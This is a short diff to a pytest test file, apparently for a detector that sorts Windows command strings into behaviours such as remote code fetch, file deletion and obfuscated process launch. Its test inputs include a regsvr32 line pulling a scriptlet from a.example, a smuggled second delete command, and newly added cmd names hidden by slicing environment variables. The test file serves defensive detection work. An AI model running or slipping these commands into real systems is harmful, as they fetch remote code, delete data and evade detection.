@@ -37,6 +37,9 @@ def _read(source: str) -> FileFacts:
         ),
         pytest.param("regsvr32 /s /i:http://a.example/x.sct scrobj.dll", ("code.fetched", "a.example"), id="regsvr32"),
         pytest.param("a & del C:\\x", ("fs.delete", "C:\\x"), id="a second command"),
+        pytest.param("%COMSPEC:~-7,3% /c dir", ("code.obfuscated", "cmd"), id="letters of a variable that all have"),
+        pytest.param("%LOCALAPPDATA:~-3,1%md /c dir", ("process.exec", "cmd"), id="letters behind a user's name"),
+        pytest.param("%USERPROFILE:~10,2%\\x", ("process.exec", None), id="letters of a user's name"),
         pytest.param("del %~dp0old", ("fs.delete", "tools/old"), id="beside the file"),
     ],
 )
